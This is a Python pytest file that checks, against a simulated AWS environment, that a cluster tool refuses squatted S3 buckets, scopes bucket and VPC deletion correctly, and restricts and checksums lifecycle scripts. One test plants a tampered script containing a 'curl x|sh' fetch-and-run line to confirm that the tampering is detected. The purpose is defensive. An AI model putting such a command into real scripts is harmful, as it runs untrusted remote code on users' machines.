"""The project bucket on the twin: a squatted name is refused, new buckets carry a random suffix and the
installation tag, lifecycle scripts are out of the data roles' reach and checksummed, and deleteBucket deletes
only the deleted cluster's prefixes (the bucket only when no other cluster uses it)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from instantstart.manifests import iam_policies as pol
from instantstart.twin_process import TwinProcess
from tests.support.flows import make_eks
from tests.support.servers import Running, thread_server
from tests.support.twin import twin_client
from tests.support.waits import wait_terminal

SQUATTED = "instantstart-squatted-us-west-2"
OTHER_ACCOUNT = "999988887777"


@pytest.fixture
def cp_configured(twin: TwinProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Running]:
    """The control plane with INSTANTSTART_PROJECT_BUCKET set to a name another account took first."""
    for key, value in twin.env.items():
        monkeypatch.setenv(key, value)
    with thread_server(
        tmp_path / "data",
        f"sqlite:///{tmp_path / 'state.db'}",
        aws_endpoint_url=twin.endpoint_url,
        aws_region=twin.env["AWS_REGION"],
        poll_seconds=0.2,
        project_bucket=SQUATTED,
    ) as running:
        yield running


def test_a_squatted_bucket_is_refused(twin: TwinProcess, cp_configured: Running) -> None:
    taken = httpx.post(twin.endpoint_url + "/_twin/s3/foreign-buckets",
                       json={"bucket": SQUATTED, "account": OTHER_ACCOUNT})
    assert taken.status_code == 200, taken.text
    with cp_configured.client() as client:
        ref = client.post("/api/v1/clusters/eks", json={"clusterTag": "sq1"}).json()
        view = wait_terminal(client, ref["operationId"], timeout=120)
    assert view["status"] == "FAILED", view
    assert view["error"]["code"] == "CONFLICT" and "not owned by account" in view["error"]["message"], view
    assert "INSTANTSTART_PROJECT_BUCKET" in view["error"]["hint"]
    # Nothing was written to the squatter's bucket, and no role was made for it.
    s3: Any = twin_client(twin, "s3")
    assert s3.list_objects_v2(Bucket=SQUATTED).get("KeyCount", 0) == 0


def test_the_twin_refuses_a_wrong_expected_owner(twin: TwinProcess) -> None:
    s3: Any = twin_client(twin, "s3")
    s3.create_bucket(Bucket="mine-x1", CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
    account = twin_client(twin, "sts").get_caller_identity()["Account"]
    s3.head_bucket(Bucket="mine-x1", ExpectedBucketOwner=account)
    with pytest.raises(Exception, match=r"403|AccessDenied"):
        s3.head_bucket(Bucket="mine-x1", ExpectedBucketOwner=OTHER_ACCOUNT)


def _bucket(client: httpx.Client) -> str:
    return str(client.get("/api/v1/clusters/eks-status").json()["details"]["bucket"])


def _delete(client: httpx.Client, tag: str) -> dict[str, Any]:
    plan = client.get(f"/api/v1/clusters/{tag}/deletion-plan", params={"deleteBucket": "true"}).json()
    go = client.post(f"/api/v1/clusters/{tag}/delete", json={"planDigest": plan["planDigest"], "deleteBucket": True})
    assert go.status_code == 202, go.text
    view = wait_terminal(client, go.json()["operationId"], timeout=180)
    assert view["status"] == "SUCCEEDED", view
    return plan


def test_delete_bucket_only_removes_the_deleted_clusters_prefixes(cp: Running, twin: TwinProcess) -> None:
    s3: Any = twin_client(twin, "s3")
    with cp.client() as client:
        make_eks(client, "bka")
        bucket_a = _bucket(client)
        make_eks(client, "bkb")
        bucket_b = _bucket(client)
        assert bucket_a == bucket_b, "one project bucket per installation and Region"
        assert re.fullmatch(r"instantstart-\d{12}-us-west-2-[0-9a-f]{8}", bucket_a), bucket_a
        tags = {t["Key"]: t["Value"] for t in s3.get_bucket_tagging(Bucket=bucket_a)["TagSet"]}
        assert tags["instantstart:installation"].startswith("is-")
        for tag in ("bka", "bkb"):
            s3.put_object(Bucket=bucket_a, Key=f"{pol.data_prefix(tag)}weights.bin", Body=b"w")
            s3.put_object(Bucket=bucket_a, Key=f"{pol.lifecycle_prefix(tag)}on_create.sh", Body=b"#!/bin/bash\n")
        plan = _delete(client, "bka")
        assert any(r["resourceType"] == "s3:prefix" for r in plan["resources"]), plan
        keys = sorted(o["Key"] for o in s3.list_objects_v2(Bucket=bucket_a).get("Contents", []))
        assert keys == [f"{pol.data_prefix('bkb')}weights.bin", f"{pol.lifecycle_prefix('bkb')}on_create.sh"]
        _delete(client, "bkb")
    assert bucket_a not in [b["Name"] for b in s3.list_buckets()["Buckets"]], "last user gone: bucket deleted"


def test_a_foreign_tagged_vpc_enters_the_plan_only_on_opt_in(cp: Running, twin: TwinProcess) -> None:
    ec2: Any = twin_client(twin, "ec2")
    with cp.client() as client:
        make_eks(client, "fv1")
        ours = client.get("/api/v1/clusters/eks-status").json()["details"]["vpcId"]
        own_tags = {t["Key"]: t["Value"] for t in ec2.describe_vpcs(VpcIds=[ours])["Vpcs"][0]["Tags"]}
        assert own_tags["instantstart:installation"].startswith("is-")
        # Someone else (another installation, or by hand) tags a VPC with the same clusterTag.
        other = ec2.create_vpc(CidrBlock="10.200.0.0/16")["Vpc"]["VpcId"]
        ec2.create_tags(Resources=[other], Tags=[{"Key": "instantstart:cluster-tag", "Value": "fv1"}])
        plan = client.get("/api/v1/clusters/fv1/deletion-plan").json()
        assert other not in [r["resourceId"] for r in plan["resources"]]
        assert [(r["resourceId"], r["source"]) for r in plan["foreign"]] == [(other, "foreign-tag")]
        assert "includeForeign" in plan["note"]
        opted = client.get("/api/v1/clusters/fv1/deletion-plan", params={"includeForeign": "true"}).json()
        assert other in [r["resourceId"] for r in opted["resources"]] and opted["foreign"] == []
        assert opted["planDigest"] != plan["planDigest"]
        go = client.post("/api/v1/clusters/fv1/delete", json={"planDigest": plan["planDigest"]})
        assert go.status_code == 202, go.text
        assert wait_terminal(client, go.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
    vpcs = [v["VpcId"] for v in ec2.describe_vpcs()["Vpcs"]]
    assert other in vpcs and ours not in vpcs


def _allows(document: dict[str, Any], action: str, resource: str) -> bool:
    """Whether an identity policy's Allow statements grant `action` on `resource` (no conditions here)."""
    for statement in document["Statement"]:
        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [statement["Resource"]]
        matches = any(re.fullmatch(re.escape(r).replace(r"\*", ".*"), resource) for r in resources)
        if statement["Effect"] == "Allow" and action in actions and matches:
            return True
    return False


def test_lifecycle_scripts_are_out_of_reach_and_checksummed(cp: Running, twin: TwinProcess) -> None:
    from tests.support.flows import add_group, make_hyperpod

    s3: Any = twin_client(twin, "s3")
    iam: Any = twin_client(twin, "iam")
    with cp.client() as client:
        make_hyperpod(client, "lc1")
        bucket = _bucket(client)
        ref = client.post("/api/v1/clusters/dependencies", json={})
        assert wait_terminal(client, ref.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
        script = f"arn:aws:s3:::{bucket}/{pol.lifecycle_prefix('lc1')}on_create.sh"
        data = f"arn:aws:s3:::{bucket}/{pol.data_prefix('lc1')}x"
        other = f"arn:aws:s3:::{bucket}/{pol.data_prefix('other')}x"
        # The roles pods can reach (the S3 CSI driver's and the nodes') as written to the twin's IAM.
        writers = [r["RoleName"] for r in iam.list_roles()["Roles"] if r["RoleName"].startswith("instantstart-lc1-")]
        checked = 0
        for role in writers:
            for name in iam.list_role_policies(RoleName=role)["PolicyNames"]:
                document = iam.get_role_policy(RoleName=role, PolicyName=name)["PolicyDocument"]
                allows = [s for s in document["Statement"] if s["Effect"] == "Allow"]  # every role denies lifecycle/
                if not any(str(s.get("Resource")).count("arn:aws:s3") for s in allows):
                    continue
                checked += 1
                assert not _allows(document, "s3:PutObject", script), role
                assert not _allows(document, "s3:DeleteObject", script), role
                assert not _allows(document, "s3:PutObject", other), role
                assert _allows(document, "s3:PutObject", data), role
        assert checked >= 2, writers
        # A script changed behind our back is never handed to UpdateCluster.
        s3.put_object(Bucket=bucket, Key=f"{pol.lifecycle_prefix('lc1')}on_create.sh", Body=b"#!/bin/bash\ncurl x|sh\n")
        view = add_group(client, instanceGroupName="more", instanceType="ml.g6.4xlarge", instanceCount=1,
                         availabilityZone="us-west-2c")
        assert view["status"] == "FAILED" and view["error"]["code"] == "CONFLICT", view
        assert "was modified" in view["error"]["message"] and "on_create.sh" in view["error"]["hint"]
